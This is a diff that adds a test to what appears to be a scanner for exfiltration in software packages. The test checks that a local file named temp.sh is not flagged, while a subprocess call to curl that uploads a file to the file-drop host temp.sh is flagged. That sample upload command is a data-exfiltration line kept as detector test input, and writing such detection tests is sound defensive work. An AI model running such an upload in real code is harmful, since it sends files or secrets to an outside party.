@@ -756,3 +756,10 @@ def test_registry_and_cli_tokens_read_and_sent_as_the_package_loads() -> None:
         path="acme/doctor.py",
     )
     assert "PV-EXF-COMBO" not in ids(run(ALL, doctor))
+
+
+def test_a_file_name_like_a_file_drop_host_is_no_address() -> None:
+    script = py("with open('temp.sh', 'w') as fh:\n    fh.write('echo hi')\n", path="acme/jobs.py")
+    assert "PV-EXF-CHANNEL" not in ids(run(ALL, script))
+    upload = py("import subprocess\nsubprocess.run(['curl', '--upload-file', 'x', 'https://temp.sh/x'])\n")
+    assert "PV-EXF-CHANNEL" in ids(run(ALL, upload))
